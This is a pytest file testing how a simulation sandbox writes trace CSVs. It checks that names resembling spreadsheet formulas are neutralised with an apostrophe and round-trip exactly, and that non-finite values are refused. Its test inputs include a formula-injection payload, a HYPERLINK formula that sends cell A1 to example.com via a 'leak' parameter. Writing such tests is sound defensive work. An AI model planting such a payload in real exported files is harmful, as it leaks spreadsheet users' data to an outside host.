"""Trace files: names a spreadsheet never runs as formulas, exact round trips, finite rows only."""

from __future__ import annotations

import csv
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox import trace
from sandbox.errors import SimulationError
from sandbox.trace import HEADER, read_trace, write_trace

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # leading spaces, then a formula
    "'=already quoted",
]


def row(name, step=0, x=1.5):
    return (step, 0.25, name, x, -2.0, 0.1, 0.0, -9.81, 0.0)


def cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_name_is_written_as_text_and_read_back_exactly(tmp_path, name):
    path = tmp_path / "t.csv"
    write_trace([row(name), row("ball")], path)
    body = [r[2] for r in cells(path)[1:]]
    # what a spreadsheet sees: the cell starts with an apostrophe (text), never = + - @ or a
    # control character
    assert body[0] == "'" + name and body[1] == "ball"
    assert [r["body"] for r in read_trace(path)] == [name, "ball"]


def test_numbers_are_never_quoted_even_negative(tmp_path):
    path = tmp_path / "t.csv"
    write_trace([row("-ball", x=-3.25)], path)
    written = cells(path)[1]
    assert written[3] == "-3.25" and written[2] == "'-ball"
    assert read_trace(path)[0]["x"] == -3.25


@given(st.text(min_size=1, max_size=30).filter(lambda s: s.strip()))
def test_every_name_round_trips_and_no_cell_starts_a_formula(name):
    cell = trace.text_cell(name)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert (cell[1:] if cell.startswith("'") else cell) == name  # the documented inverse


def test_round_trip_through_a_file(tmp_path):
    names = ["ball", "'quoted'", "=1", "+x", "a,b", 'say "hi"', "line\nbreak", "ünïcödé"]
    path = tmp_path / "t.csv"
    write_trace([row(n, step=k) for k, n in enumerate(names)], path)
    assert [r["body"] for r in read_trace(path)] == names
    assert cells(path)[0] == list(HEADER)


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf])
def test_a_non_finite_row_is_refused_and_nothing_is_written(tmp_path, bad):
    path = tmp_path / "t.csv"
    with pytest.raises(SimulationError) as info:
        write_trace([row("a"), row("b", step=7, x=bad)], path)
    assert info.value.body == "b" and info.value.step == 7
    assert list(tmp_path.iterdir()) == []


def test_trace_writer_streams_and_counts(tmp_path):
    path = tmp_path / "t.csv"
    with trace.TraceWriter(path) as writer:
        for k in range(5):
            writer.write([row("a", step=k), row("b", step=k)])
        assert writer.rows == 10 and not path.exists()
    assert len(read_trace(path)) == 10
